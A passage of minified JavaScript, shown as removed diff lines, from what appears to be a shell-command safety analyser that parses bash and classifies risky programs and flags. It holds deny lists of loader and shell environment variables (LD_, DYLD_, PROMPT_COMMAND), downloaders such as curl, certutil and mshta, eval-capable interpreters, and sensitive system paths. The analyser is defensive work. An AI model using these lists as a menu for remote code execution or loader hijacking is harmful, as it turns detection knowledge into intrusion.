-u);e.add("assignment-refused",B,{name:u,value:Tt(d),known:f}),l||s.push({name:u,value:d,span:B})}}return{assignments:n,refused:s,
-count:r}}const kx=`
-  BASH_~ BASHOPTS ENV HOME IFS PATH PROMPT_COMMAND PS4 SHELL SHELLOPTS XDG_CONFIG_HOME ZDOTDIR
-  DYLD_~ GLIBC_~ LD_~ LIBRARY_~ MALLOC_~
-  C8_~ COVERAGE_~ ELECTRON_~ INIT_CWD MOCHA_OPTIONS AVA_~ NODE NODE_~ NVM_~ NYC_~
-  TAP_~ TS_NODE_~ TSX_~ WEBPACK_~
-  BUN_~ COREPACK_~ DENO_~ NPM_~ npm_execpath npm_node_execpath PNPM_~ YARN_~
-  CONDA_~ PIP_~ POETRY_~ PYTEST_~ PYTHON~ TOX_~ UV_~ VIRTUAL_~
-  BUNDLE_~ GEM_~ LUA_~ PERL~ PHP_~ RUBY~
-  CARGO_~ GOPATH~ GOROOT~ GOTOOLCHAIN~ RUST~
-  CLASSPATH GRADLE_~ JAVA~ JDK~ MAVEN_~ MVN_~
-  _JAVA_OPTIONS _JAVA_TOOL_OPTIONS
-  CMAKE_~ COMPLUS_~ CORECLR_~ DOTNET_~ GCC_~ GNUMAKEFLAGS MAKE~ MSBUILD_~
-  GIT_~
-  BROWSER_ARGS DOCKER_~ EDITOR_~ OPENSSL_~ SSH_~ SSL_~ SUDO_~ XDG_~
-`.match(/\S+/g),vx=new RegExp(`^(?:${kx.join("|").replaceAll("~",".*")}|[A-Z]+_INCLUDE_PATH|[A-Z]+_PROXY)$`,"s");function jf(t){
-return vx.test(t)}function Dx(t){if(!t.parts.some(a=>!a.quoted&&/[*?[]/.test(a.text)))return;const e=t.parts.flatMap(({text:a,
-quoted:c})=>Array.from(a,u=>({character:u,active:!c}))),n=e.findLastIndex(({character:a,active:c})=>c&&a==="]"),s=[];let r,
-i;for(let a=0;a<e.length;){const c=xx(e,a,n);c?(r??=Gf(s),i??=c.ambiguity,c.element.kind==="many"&&s.at(-1)?.kind==="man\
-y"||s.push(c.element),a=c.end):(s.push({kind:"literal",character:e[a]?.character??""}),a+=1)}return r===void 0?void 0:{text:e.
-map(({character:a})=>a).join(""),prefix:r,segments:Sx(s),...i&&{ambiguity:i}}}function xx(t,e,n){const s=t[e];return s?.
-active?s.character==="*"?{element:{kind:"many"},end:e+1}:s.character==="?"?{element:{kind:"one"},end:e+1}:s.character!==
-"["||n<e?void 0:Ox(t,e)??{element:{kind:"one"},end:e+1,ambiguity:"bracket"}:void 0}function Ox(t,e){let n=e+1;const s=Yr(
-t[n],"!");s&&(n+=1);const r=new Set;for(;!Yr(t[n],"]");){const i=Mf(t[n]);if(i===void 0)return;const o=Yr(t[n+1],"-")?Mf(
-t[n+2]):i;if(o===void 0||!Ax(i,o))return;n+=Yr(t[n+1],"-")?3:1;for(let a=i.charCodeAt(0);a<=o.charCodeAt(0);a+=1)r.add(String.
-fromCharCode(a))}if(r.size!==0)return{element:{kind:"set",negated:s,members:r},end:n+1}}function Yr(t,e){return t?.active===
-!0&&t.character===e}function Mf(t){return t&&/^[A-Za-z0-9_.,@%+]$/.test(t.character)?t.character:void 0}function Ax(t,e){
-if(t===e)return!0;const n=[/[a-z]/,/[A-Z]/,/[0-9]/];return t<e&&n.some(s=>s.test(t)&&s.test(e))}function Gf(t){return t.
-map(e=>e.kind==="literal"?e.character:"").join("")}function Sx(t){const e=[[]];for(const n of t)n.kind==="literal"&&n.character===
-"/"?e.push([]):e.at(-1)?.push(n);return e}function da(t){return t.every(({kind:e})=>e==="literal")?Gf(t):void 0}const Hf=t=>Array.
-from(t),Tx=t=>Array.from(Buffer.from(t).toString("latin1"));function zf(t,e){const[n]=t;if(e.startsWith(".")&&!(n?.kind===
-"literal"&&n.character==="."))return!1;const s=Ba(t,e,Hf);return/^[\x20-\x7e]*$/.test(e)||s===Ba(t,e,Tx)?s:void 0}function Ix(t,e){
-const n=Array.from(e,s=>s==="*"?{kind:"many"}:{kind:"literal",character:s});return Ba(n,t,Hf)}function Ba(t,e,n){const s=t.
-flatMap(c=>c.kind==="literal"?n(c.character).map(u=>({kind:"literal",character:u})):c),r=n(e);let i=0,o=-1,a=0;for(let c=0;c<
-r.length;)if(s[i]?.kind==="many")o=i,a=c,i+=1;else if($x(s[i],r[c]))i+=1,c+=1;else if(o>=0)i=o+1,a+=1,c=a;else return!1;
-return s.slice(i).every(({kind:c})=>c==="many")}function $x(t,e=""){return t?.kind==="literal"?t.character===e:t?.kind===
-"set"?t.members.has(e)!==t.negated:t?.kind==="one"}const Rx=20,Nx=4096,Uf=64;function Fx(t,e,n){const{pattern:s,span:r,position:i}=t,
-o=Tt(s.text),a=jx(s);let c=[];if(i==="program")n.add("glob-unclear",r,{pattern:o,reason:"program"});else if(Mx(s))n.add(
-"glob-unclear",r,{pattern:o,reason:"outside"});else if(!Px(s,e))if(a)n.add("glob-unclear",r,{pattern:o,reason:a});else if(Gx(
-s))n.add("glob-unclear",r,{pattern:o,reason:"flag"});else if(e)c=Lx(t,e,n);else if(i==="script"&&Hx(s))n.add("glob-uncle\
-ar",r,{pattern:o,reason:"program"});else{const u={matches:[],count:0,judged:!1};n.add("unquoted-glob",r,{pattern:o,...u})}
-return c.length===0?[s.text]:c}function Lx({pattern:t,span:e,position:n},s,r){const i=Tt(t.text),o=Jx(t,s),a="matches"in
-o&&!o.matches.every(zx);if("ambiguity"in o||a){const d="ambiguity"in o?o.ambiguity:"file_name";return r.add("glob-unclea\
-r",e,{pattern:i,reason:d}),[]}const{matches:c}=o;c.some(d=>d.startsWith("-"))&&r.add("glob-unclear",e,{pattern:i,reason:"\
-flag"}),n==="script"&&c.length>1&&r.add("glob-unclear",e,{pattern:i,reason:"program"});const u=c.slice(0,Rx).map(d=>Tt(d)),
-{length:l}=c;return r.add("unquoted-glob",e,{pattern:i,matches:u,count:l,judged:!0}),c}function Px({prefix:t,text:e},n){
-return t.includes("://")&&!n?.stat(e.slice(0,e.indexOf("/")))}function jx({text:t,segments:e,ambiguity:n}){return n||(t.
-length>Nx?"too_many":e.some(r=>da(r)===void 0&&zf(r,".."))?"dot":void 0)}function Mx({text:t,segments:e}){return t.startsWith(
-"/")||e.some(n=>da(n)==="..")}function Gx({prefix:t}){return t.startsWith("-")&&!t.includes("=")}function Hx({segments:t}){
-return t.some(e=>e.some(({kind:n})=>n==="many"))}function zx(t){const e=new If;return Mn(t,0,!0,e),e.inOrder().length===
-0}const Ux=128*1024;function Jx(t,e){let n=[{written:"",path:""}];for(const[i,o]of t.segments.entries()){const a=i===t.segments.
-length-1,c=[];for(const u of n){const l=Zx(u,o,a,e);if(typeof l=="string")return{ambiguity:l};c.push(...l)}n=c}const s=n.
-map(({written:i})=>Buffer.from(i));return s.reduce((i,o)=>i+o.length+1,0)>Ux?{ambiguity:"too_many"}:{matches:s.sort(Buffer.
-compare).map(i=>i.toString())}}function Zx(t,e,n,s){const{written:r,path:i}=t,o=da(e);if(o==="")return n?[t]:"empty_segm\
-ent";const a=n?"":"/";if(o===".")return[{written:`${r}.${a}`,path:i}];const c=[];for(const u of Kx(i,e,o,s)){if(u==="let\
-ters")return"letters";if(!n&&Wx(u,s))return"symlink";!n&&u.kind!=="directory"||c.push({written:`${r}${ie.posix.basename(
-u.path)}${a}`,path:u.path})}return c}function*Kx(t,e,n,s){if(n!==void 0){const r=s.stat(t===""?n:`${t}/${n}`);r?.tracked&&
-(yield r);return}for(const r of s.list(t)){if(!r.tracked)continue;const i=zf(e,ie.posix.basename(r.path));i===void 0?yield"\
-letters":i&&(yield r)}}function Wx(t,e){if(t.kind!=="symlink")return t.kind==="submodule";const n=Ve(e,t.path);return n.
-kind==="missing"?!1:n.kind!=="inside"||!/^(?:file|executable)$/.test(n.entry.kind)}const Xr=t=>new Set(t.split(/\s+/)),qx=Xr(
-": [ cd echo exit false test true"),fa=Xr("! { do elif else if then time until while"),Vx=new RegExp(`^\\s*(?:(?:${[...fa].
-join("|").replace("{","\\{")})\\s+)*$`),Yx=Xr("fi done case esac for } in [[ ]] function select coproc"),Xx=Xr(`. alias \
-autoload bg bind break builtin caller chdir command compgen complete compopt continue
-  declare dirs disown enable eval exec export fc fg functions getopts hash help histexpand history integer
-  jobs kill let local logout mapfile popd print printf pushd pwd r read readarray readonly return set shift shopt
-  source suspend times trap type typeset ulimit umask unalias unset wait whence`);function ha(t){return qx.has(t)}function Qx(t){
-return fa.has(t)}function eO(t){return Vx.test(t)}function Jf(t){return fa.has(t)||Yx.has(t)}function pa(t){return Jf(t)||
-Xx.has(t)}const Zf=1e3,Kf=/[ \t\n\r'"\\$`;&|<>()]/g;function tO(t,e){return new nO(t,e).split()}class nO{#e;#t;#s=[];#i=[];#r=0;#n=0;#c=0;constructor(e,n){
-this.#e=e,this.#t=n}split(){for(;this.#n<this.#e.length;)this.#u();if(this.#a(),this.#c>Zf){const e={start:0,end:this.#e.
-length};this.#t.add("command-too-long",e,{more:`${Zf} quoted parts`})}return this.#s}#u(){switch(this.#e.charAt(this.#n)){case"\
- ":case"	":this.#a(),this.#n+=1;break;case`
-`:case"\r":this.#a(),Mn(this.#e.charAt(this.#n),this.#n,!1,this.#t),this.#n+=1;break;case"'":this.#p();break;case'"':this.#h();
-break;case"\\":this.#m();break;case"$":this.#l(!1);break;case"`":this.#g(!1);break;case";":case"&":case"|":case"<":case"\
->":case"(":case")":this.#a(),this.#n=cO(this.#e,this.#n,this.#t);break;case"#":this.#i.length===0?this.#y():this.#B();break;default:
-this.#B()}}#o(e,n,s,r=s){this.#i.length===0&&(this.#r=r),this.#i.push({text:e,quoted:n,start:s})}#a(){this.#i.length!==0&&
-(this.#s.push({parts:this.#i,start:this.#r,end:this.#n}),this.#i=[])}#B(){const e=this.#n;Kf.lastIndex=e+1;const n=Kf.exec(
-this.#e)?.index??this.#e.length,s=this.#e.slice(e,n);Mn(s,e,!1,this.#t),this.#o(s,!1,e),this.#n=n}#p(){const e=this.#n,n=this.#e.
-indexOf("'",e+1),s=n<0?this.#e.length:n,r=this.#e.slice(e+1,s);Mn(r,e+1,!0,this.#t),this.#o(r,!0,e+1,e),this.#d(e,s,"'")}#h(){
-const e=this.#n,n=this.#e;let s="",r=e+1;for(this.#n=r;this.#n<n.length&&n.charAt(this.#n)!=='"';){const o=n.charAt(this.#n);
-o==="\\"&&/["$`\\\n]/.test(n.charAt(this.#n+1))?(s+=n.slice(r,this.#n),n.charAt(this.#n+1)===`
-`&&this.#f(),r=this.#n+1,this.#n+=2):o==="$"?this.#l(!0):o==="`"?this.#g(!0):this.#n+=1}const i=Math.min(this.#n,n.length);
-s+=n.slice(r,i),Mn(n.slice(e+1,i),e+1,!0,this.#t),this.#o(s,!0,e+1,e),this.#d(e,i,'"')}#d(e,n,s){this.#c+=1,this.#n=Math.
-min(n+1,this.#e.length),!(n<this.#e.length)&&this.#t.add("unterminated-quote",{start:e,end:n},{quote:s})}#m(){const e=this.#n,
-n=this.#e.charAt(e+1);this.#n+=1,n===""?(this.#t.add("unterminated-quote",{start:e,end:e+1},{quote:"\\"}),this.#o("\\",!0,
-e)):n===`
-`?(this.#n=e,this.#f(),this.#n+=2):n>"\x7F"?this.#o("",!0,e+1,e):(Mn(n,e+1,!0,this.#t),this.#o(n,!0,e+1,e),this.#n+=1)}#f(){
-this.#t.add("line-continuation",{start:this.#n,end:this.#n+2},{})}#l(e){const n=oO(this.#e,this.#n,e);n?this.#C(n.kind,n.
-end,e):(e||this.#o("$",!1,this.#n),this.#n+=1)}#g(e){const n=aO(this.#e,this.#n);this.#C("command-substitution",n,e)}#C(e,n,s){
-const r=this.#n,i=this.#e.slice(r,n);this.#t.add(e,{start:r,end:n},{written:Tt(i)}),s||this.#o(i,!0,r),this.#n=n}#y(){const e=this.#n,
-n=this.#e.indexOf(`
-`,e);this.#n=n<0?this.#e.length:n;const s=this.#e.slice(e,this.#n);Mn(s,e,!1,this.#t),this.#t.add("shell-comment",{start:e,
-end:this.#n},{written:Tt(s)})}}const sO=/[A-Za-z_]/,rO=/[A-Za-z0-9_]/,iO=/[0-9@*#?$!-]/;function oO(t,e,n){const s=t.charAt(
-e+1);if(s==="(")return{kind:t.charAt(e+2)==="("?"arithmetic-expansion":"command-substitution",end:ma(t,e+1,"(",")")};if(s===
-"{")return{kind:"variable-expansion",end:ma(t,e+1,"{","}")};if(s==="[")return{kind:"arithmetic-expansion",end:ma(t,e+1,"\
-[","]")};if(s==="'"||s==='"'){if(n)return;const r=t.indexOf(s,e+2);return{kind:"dollar-quote",end:r<0?t.length:r+1}}if(sO.
-test(s)){let r=e+2;for(;rO.test(t.charAt(r));)r+=1;return{kind:"variable-expansion",end:r}}if(iO.test(s)||s>"\x7F")return{
-kind:"variable-expansion",end:e+2}}function aO(t,e){for(let n=e+1;n<t.length;n+=1){const s=t.charAt(n);if(s==="\\")n+=1;else if(s===
-"`")return n+1}return t.length}function ma(t,e,n,s){let r=0;for(let i=e;i<t.length;i+=1){const o=t.charAt(i);if(o===n)r+=
-1;else if(o===s&&(r-=1,r===0))return i+1}return t.length}function cO(t,e,n){const s=t.charAt(e);if(s==="("||s===")")return n.
-add("shell-grammar",{start:e,end:e+1},{written:s}),e+1;const r=s==="<"||s===">",i=r?/[<>&|-]/:/[;&|]/;let o=e+1;for(;o-e<
-3&&i.test(t.charAt(o));)o+=1;const a=t.slice(e,o);return n.add(r?"shell-redirection":"shell-operator",{start:e,end:o},{operator:a}),
-o}const Wf=128*1024;function un(t,e){const n=new If;if(uO(t,n))return{words:[],assignments:[],refused:[],problems:n.inOrder()};
-const s={start:0,end:t.length};Bx(t,n),ua(t,n);const r=tO(t,n),{assignments:i,refused:o,count:a}=Ex(r,n);for(const u of r.
-slice(0,a))qf(u,n);const c=lO(r.slice(a),e,n);c.length===0&&n.add("empty-command",s,{});for(const{value:u,span:l}of i)ua(
-u,n,l);for(const{text:u,span:l}of c)ua(u,n,l);return{words:c,assignments:i,refused:o,problems:n.inOrder()}}function ga({
-problems:t}){return t.every(({severity:e})=>e==="warning")}function uO(t,e){if(Buffer.byteLength(t)<=Wf)return!1;const n={
-start:0,end:t.length};return e.add("command-too-long",n,{more:`${Wf} bytes`}),!0}function lO(t,e,n){const s=[];let r=0;for(const[
-i,o]of t.entries()){const a={start:o.start,end:o.end},c=o.parts.some(B=>B.quoted),u=Vr(o);qf(o,n),BO(o,n),fO(o,i===0,n),
-ax(u,o,i===0,n);const l=Dx(o);if(l&&(r+=1),l&&r>Uf&&n.add("glob-unclear",a,{pattern:Tt(u),reason:"too_many"}),!l||r>Uf){
-s.push({text:u,span:a,quoted:c});continue}const d=dO(i,s);for(const B of Fx({pattern:l,span:a,position:d},e,n))s.push({text:B,
-span:a,quoted:c})}return s}function dO(t,e){return t===0?"program":t===1&&e[0]?.text==="node"?"script":"argument"}function qf(t,e){
-for(const[n,s]of t.parts.entries()){if(s.quoted||!s.text.includes("~"))continue;const r=s.text.search(n===0?/(?:^|[=:])~/:
-/[=:]~/);if(r<0)continue;const i=s.start+s.text.indexOf("~",r),o=Tt(Vr(t));e.add("tilde-expansion",{start:i,end:i+1},{word:o});
-return}}function BO(t,e){let n=-1,s=!1;for(const r of t.parts)if(!(r.quoted||n<0&&!r.text.includes("{")))for(const{0:i,index:o}of r.
-text.matchAll(/[{},]|\.\./g)){const a=r.start+o;if(i==="{")n<0&&(n=a);else if(i!=="}")s=n>=0;else if(s){const c={start:n,
-end:a+1};e.add("brace-expansion",c,{written:Tt(Vr(t))});return}}}function fO(t,e,n){const s=px(t);s!==void 0&&(s==="!"||
-e&&Jf(s))&&n.add("shell-grammar",{start:t.start,end:t.end},{written:s})}const hO=/^-\w*c$|^--command$/,Ca=/^-\w*[ep]\w*$|^--(?:eval|print)(?:=|$)|^eval$/,
-pO=/^-\w*[eE]/,mO=/^$/,gO=/^(?:add|dlx)$/,CO=[["shell","sh bash dash ash zsh ksh mksh pdksh yash fish csh tcsh rc elvish\
- nu xonsh",{text:hO}],["shell","pwsh powershell",{text:/^[-/](?:c|command|e|ec|en\w*)$/i}],["shell","cmd",{text:/^\/[ckr]/i}],
-["shell","osascript",{text:/^-e$/}],["shell","eval iex invoke-expression",{text:"words"}],["shell","source ."],["interpr\
-eter","node nodejs deno tsx ts-node jiti esno esmo babel-node",{text:Ca}],["interpreter","vite-node swc-node sucrase-nod\
-e",{text:Ca}],["interpreter","bun",{text:Ca,fetches:/^(?:x|add)$/,runsScripts:!0}],["interpreter","python python2 python\
-3 pythonw py pypy pypy3",{text:/^-[A-Za-z]*c/}],["interpreter","perl ruby lua luajit raku rscript julia elixir groovy sc\
-ala",{text:pO}],["interpreter","php",{text:/^-r|^--run$/}],["interpreter","java tclsh jshell ghci"],["wrapper","doas su \
-sudo",{wraps:"as-user"}],["wrapper","cross-env dotenv env-cmd",{wraps:"as-tool"}],["wrapper","command exec builtin busyb\
-ox toybox time taskset chrt flock prlimit unshare chroot"],["wrapper","strace ltrace gdb xargs parallel watch winpty"],[
-"wrapper","env ionice nice nohup setsid stdbuf timeout xvfb-run"],["downloader","curl wget aria2c axel fetch http https \
-xh httpie iwr irm invoke-webrequest"],["downloader","invoke-restmethod start-bitstransfer bitsadmin certutil mshta"],["b\
-uilder","go",{fetches:/^(?:run|install)$/}],["builder","cargo",{fetches:/^install$/}],["builder","make",{finds:"GNUmakef\
-ile makefile Makefile"}],["builder","just",{finds:"justfile Justfile .justfile"}],["builder","task",{finds:"Taskfile.yml\
- Taskfile.yaml"}],["manager","npm",{fetches:/^(?:exec|x|i|install|add)$/,runsScripts:!0}],["manager","pnpm yarn",{fetches:gO,
-runsScripts:!0}],["manager","npx bunx pnpx uvx",{fetches:mO}],["manager","pip pip3",{fetches:/^install$/}],["manager","g\
-em",{fetches:/^install$/}],["manager","pipx",{fetches:/^run$/}],["manager","uv",{fetches:/^(?:tool run|pip3? install)$/,
-runsInside:!0}],["manager","poetry conda hatch mise pdm pipenv pixi rye",{runsInside:!0}],["manager","corepack composer"],
-["system","docker podman",{fetches:/^(?:container )?run$/}],["system","cat ls rm cp mv grep find sed awk git touch echo \
-cd test diff wc head tail"],["system","chmod true false exit vim"]],Qr=new Map(CO.flatMap(([t,e,n])=>e.split(" ").map(s=>[
-s,{name:s,kind:t,...n}]))),yO=[...Qr.keys()];function Zs(t){return/^\.{1,2}$/.test(t)?t:t.replace(/^.*[\\/]/s,"").replace(
-/\.(?:exe|cmd|bat|com|ps1)$/i,"").toLowerCase()}function at(t){const e=Zs(t),n=Qr.get(e);if(n!==void 0)return n;const s=Qr.
-get(e.replace(/[-.]?\d[\d.]*w?$/,""));return s?.kind==="shell"||s?.kind==="interpreter"?s:void 0}function ei(t){return at(
-t)?.kind==="shell"}function ti(t){const e=at(t)?.kind;return e==="shell"||e==="interpreter"}function Vf(t){if(t===".")return!1;
-const e=at(t)?.kind;return e!==void 0&&e!=="system"&&e!=="downloader"}function wO(t){const[e="",...n]=t.trim().split(/\s+/);
-return Xf(e)&&n.some(s=>/^-|[./]|^[|&;<>]+$/.test(s))}function Yf(t){return/&&|\|\||\$\(|`/.test(t)?!0:t.split(/;\s|\s\|\s/).
-some(e=>{const[n="",...s]=e.trim().split(/\s+/);return s.length>0&&Xf(n)})}function Xf(t){return Qr.has(t)}const ya=Zr({
-harmless:`
-    addons async-context-frame debug-arraybuffer-allocations deprecation disable-proto=
-    disable-sigusr1 disable-warning= disallow-code-generation-from-strings dns-result-order=
-    enable-fips enable-source-maps experimental-abortcontroller experimental-detect-module
-    experimental-eventsource experimental-fetch experimental-global-navigator
-    experimental-global-webcrypto experimental-modules experimental-print-required-tla
-    experimental-repl-await experimental-report experimental-require-module experimental-sqlite
-    experimental-test-coverage experimental-test-module-mocks experimental-test-snapshots
-    experimental-top-level-await experimental-transform-types
-    experimental-vm-modules experimental-wasi-unstable-preview1 experimental-websocket
-    experimental-worker expose-gc extra-info-on-fatal-exception force-async-hooks-checks
-    force-context-aware force-fips force-node-api-uncaught-exceptions-policy frozen-intrinsics
-    max-http-header-size= max-old-space-size-percentage= max-old-space-size?=
-    max-semi-space-size?= napi-modules network-family-autoselection
-    network-family-autoselection-attempt-timeout= pending-deprecation require-module
-    secure-heap-min= secure-heap= stack-trace-limit?= strip-types test test-concurrency=
-    test-coverage-branches= test-coverage-exclude= test-coverage-functions=
-    test-coverage-include= test-coverage-lines= test-force-exit test-isolation=
-    test-random-seed= test-randomize test-timeout= test-udp-no-try-send
-    throw-deprecation tls-max-v1.3 tls-min-v1.2 tls-min-v1.3 trace-atomics-wait
-    trace-deprecation trace-exit trace-promises trace-require-module= trace-sigint trace-sync-io
-    trace-tls trace-uncaught trace-warnings track-heap-objects v8-pool-size= verify-base-objects warnings zero-fill-buff\
-ers
-  `,"only-prints":`
-    completion-bash help v8-options version
-  `,"checks-syntax-only":`
-    check
-  `,"skips-tests":`
-    experimental-test-tag-filter= test-name-pattern= test-only test-shard= test-skip-pattern=
-  `,"tolerates-rejections":`
-    unhandled-rejections=
-  `,"reports-tests":`
-    test-reporter=
-  `,"writes-report":`
-    test-reporter-destination=
-  `,weakens:`
-    abort-on-uncaught-exception allow-addons allow-child-process allow-fs-read= allow-fs-write=
-    allow-inspector allow-natives-syntax allow-openssl-store allow-wasi allow-worker conditions=
-    disable-wasm-trap-handler enable-etw-stack-walking env-file-if-exists= env-file=
-    experimental-permission expose-internals harmony-shadow-realm huge-max-old-generation-size
-    insecure-http-parser interpreted-frames-native-stack jitless max-heap-size?= node-memory-debug
-    openssl-legacy-provider perf-basic-prof-only-functions perf-prof-unwinding-info permission
-    permission-audit security-revert= stack-size?= title= tls-cipher-list= tls-max-v1.2
-    tls-min-v1.0 tls-min-v1.1 trace-env trace-env-js-stack trace-env-native-stack use-bundled-ca
-    use-largepages= use-openssl-ca use-system-ca
-  `,evaluates:`
-    eval= print
-  `,preloads:`
-    experimental-loader= import= require=
-  `,"outside-code":`
-    build-snapshot debug debug-brk experimental-config-file= experimental-default-type= input-type=
-    inspect inspect-brk inspect-port= inspect-wait run= test-global-setup=
-  `,"reads-stdin":`
-    interactive
-  `,"never-ends":`
-    watch watch-path=
-  `,"writes-files":`
-    cpu-prof heap-prof prof report-on-fatalerror test-update-snapshots
-  `}),bO=new Map(`
-  -c=check -C=conditions -e=eval -h=help -i=interactive -p=print -pe=print -r=require -v=version
-  debug-port=inspect-port enable-network-family-autoselection=network-family-autoselection
-  experimental-default-config-file=experimental-config-file experimental-strip-types=strip-types
-  experimental-test-isolation=test-isolation loader=experimental-loader
-  security-reverts=security-revert
-  `.trim().split(/\s+/).map(t=>t.split("="))),_O=new Set("dot junit lcov spec tap".split(" ")),Qf=new Set(`
-  @swc-node/register dotenv/config esbuild-register source-map-support/register ts-node/esm
-  ts-node/register ts-node/register/transpile-only tsx tsx/cjs tsx/esm
-  `.match(/\S+/g)),EO=new Set(`
-  @babel/polyfill @babel/register @istanbuljs/esm-loader-hook @swc/register core-js/stable esm
-  reflect-metadata regenerator-runtime/runtime ts-node ts-node/register/files tsconfig-paths/register
-  `.match(/\S+/g));function eh(t,e){const n=[],s=t.toReversed();let r;const i=o=>{for(const a of s.reverse())n.push({kind:"\
-operand",word:a});return{tokens:n,separator:o,rest:void 0}};for(let o=s.pop();o!==void 0;o=s.pop()){if(e.separator.test(
-o.text))return i(o);const a=!wa(o,e);if(!a&&r!==void 0){n.push({...r,word:o,next:o});continue}const{written:c,attached:u}=a?
-kO(o.text,e):{written:o.text,attached:void 0},l=a?e.expand(c,u):"operand";if(l==="operand"){if(n.push({kind:"operand",word:o}),
-e.flags==="first")return i();continue}if(r=void 0,l!==void 0&&"instead"in l){const{span:g,quoted:C}=o;s.push(...l.instead.
-map(b=>({text:b,span:g,quoted:C})).reverse());continue}const d=s.at(-1),B=l===void 0?e.unknown:l.at(-1)?.takes,f=u===void 0&&
-vO(B,d,e),h={word:o,written:c,attached:u,next:d,consumes:f};l===void 0&&n.push({kind:"unknown",...h});for(const[g,C]of l?.
-entries()??[]){const b=g===(l?.length??0)-1,y={word:o,written:c,attached:void 0,next:void 0,consumes:!1};n.push({kind:"f\
-lag",part:C,...b?h:y})}if(B==="rest")return{tokens:n,separator:void 0,rest:s.reverse()};const m=n.at(-1);B==="operands"&&
-f&&m?.kind==="flag"&&(r=m),f&&!(B==="both"&&d&&!wa(d,e))&&s.pop()}return i()}function wa({text:t},{dash:e}){return!t.startsWith(
-"-")||t==="-"&&e==="operand"}function kO(t,{equals:e}){return e==="all"||e==="long"&&t.startsWith("--")?ba(t):{written:t,
-attached:void 0}}function vO(t,e,n){if(e===void 0)return!1;switch(t){case"always":case"both":return!0;case"unless-dash":
-return!e.text.startsWith("-");case"true-or-false":return xO(e.text);case"operand":case"operands":return wa(e,n);default:
-return!1}}function DO({word:{span:t},attached:e,next:n,consumes:s}){return s&&n?{value:n.text,span:{start:t.start,end:n.
-span.end}}:e===void 0?{span:t}:{value:e,span:t}}function xO(t){return t==="true"||t==="false"}function ba(t){const e=t.indexOf(
-"=");return e<0?{written:t,attached:void 0}:{written:t.slice(0,e),attached:t.slice(e+1)}}const _a={families:Kr,start:()=>({
-launched:[],problems:[]}),tool:()=>({problems:[]})};function fs(t){return t==="node"||t==="npm"||t==="npx"}function Ks(t){
-return/^(?:@[a-z0-9~-][a-z0-9._~-]*\/)?[a-z0-9~][a-z0-9._~-]*$/i.test(t)}function et(t,e,{text:n,span:s}){return be(t,s,
-{program:e,flag:n})}function ni(t,e,n){const{written:s,span:r,value:i}=n,o={program:e,flag:s};return be(t,r,i===void 0?o:
-{...o,value:i})}function th(t,e){return e?"it takes a value, so it has no `--no-` form":t===void 0||t===""?"its value is\
- missing":t.startsWith("-")?"its value begins with a dash":void 0}const OO=new Set(["--version","-v","-V","--help","-h"]);
-function nh(t){const[e]=t;return t.length===1&&e!==void 0&&OO.has(e.text)?e:void 0}function si(t,e){return et("only-prin\
-ts",t,e)}function Hn(t){return/^\s*[{[]|^[A-Za-z][A-Za-z0-9+.-]*:/.test(t)||t.split(",").some(e=>xe(e)===void 0)}function zn(t){
-return/(?:^|[=,\s])(?:data|file):/i.test(t)?!0:!t.includes("..")||/^(?:[\\/]|[A-Za-z]:)/.test(t)?!1:t.split(/[=,:"']/).some(
-e=>e.includes("..")&&!SO(e))}function ri(t){return t.split(/[=,:"']/).some(e=>AO.test(e))}const AO=/^(?:~|\/(?!dev\/(?:null|stdout|stderr)$)(?:boot|dev|etc|home|private|proc|root|sys|tmp|Users|usr|var|Volumes))(?:\/|$)/;
-function SO(t){return/^[\\/]/.test(t)||xe(t)!==void 0}const TO=new Set(["","-","/dev/stdin","/dev/fd/0","/proc/self/fd/0"]);
-function sh(t){const e=[],n=[],s=[],r=new Set;for(const B of eh(t,IO).tokens){if(B.kind==="operand"){s.push(B.word);continue}
-if(B.kind==="unknown"){const b={program:"node",flag:B.written};n.push(be("unknown-flag",B.word.span,b));continue}const{spec:f,
-negated:h}=B.part,m=RO(B);e.push(m);const g=NO(f,h,m.value);if(g!==void 0&&n.push(FO(m,g)),h)continue;r.add(f.kind);const C=PO(
-f,m);C!==void 0&&n.push(ni(C,"node",m))}const i=ii({flags:e}),o=i?s.length:r.has("evaluates")?0:1,a=s.slice(0,o),c=s.slice(
-o),u=i||r.has("only-prints")||r.has("evaluates"),l=jO(a,i,t);l!==void 0&&!(u&&a.length===0)&&n.push(l);const d=nh(c);return d!==
-void 0&&n.push(si("node",d)),{invocation:{program:"node",flags:e,operands:a,passthrough:c},problems:n}}const IO={flags:"\
-first",dash:"operand",separator:/^--$/,equals:"long",unknown:"never",expand:t=>{const e=t.startsWith("--"),n=e?t.slice(2).
-replaceAll("_","-"):t,s=n.startsWith("no-")&&!ya.has(n),r=s?n.slice(3):n,i=ya.get(bO.get(r)??(e?r:""));return i&&[{spec:i,
-negated:s,takes:s?"never":$O(i)}]}};function $O({name:t,arity:e}){return t==="print"?"unless-dash":e==="value"?"always":
-"never"}function RO(t){const{spec:e,negated:n}=t.part;return{name:`--${n?"no-":""}${e.name}`,written:t.written,...DO(t)}}
-function NO({name:t,arity:e},n,s){if(e==="value")return th(s,n);if(n)return s===void 0?void 0:"a `--no-` flag takes no v\
-alue";if(e!=="none")return s?void 0:"its value is missing";const r=t==="print"||/^(?:inspect|debug$|debug-brk$)/.test(t);
-return s===void 0||r?void 0:"it takes no value"}function FO(t,e){return be("flag-value",t.span,{program:"node",flag:t.written,
-fault:e})}function ii({flags:t}){return t.findLast(({name:e})=>e==="--test"||e==="--no-test")?.name==="--test"}const LO=/\.(?:info|lcov|log|tap|txt|xml)$/;
-function PO(t,{value:e=""}){switch(t.kind){case"harmless":return;case"reports-tests":return _O.has(e)?void 0:"outside-co\
-de";case"tolerates-rejections":return e==="warn"||e==="none"?"weakens":void 0;case"writes-report":return e==="stdout"||e===
-"stderr"?void 0:LO.test(e)&&!Hn(e)?"tool-writes":"writes-files";case"evaluates":return"outside-code";case"preloads":return Qf.
-has(e)?"tool-runs-file":"outside-code";default:return t.kind}}function jO(t,e,n){const[s]=t;if(s===void 0){const o=n.at(
--1)?.span.end??0;return e?void 0:be("reads-stdin",{start:0,end:o},{program:"node",flag:""})}const{text:r,span:i}=s;if(TO.
-has(r))return be("reads-stdin",i,{program:"node",flag:r});if(r.startsWith("-"))return be("outside-code",i,{program:"node",
-flag:`-- ${r}`});if(r==="inspect"||!e&&r==="debug")return be("outside-code",i,{program:"node",flag:r})}const rh=bf({text:`\
-
-    color no-color foreground-scripts if-present include-workspace-root json loglevel= long offline
-    parseable prefer-offline prefer-online progress no-progress unicode no-unicode update-notifier
-    no-update-notifier workspace= workspaces no-yes
-  `,path:"prefix=","only-prints":"usage version versions","skips-tests":"ignore-scripts","outside-code":"call= global gl\
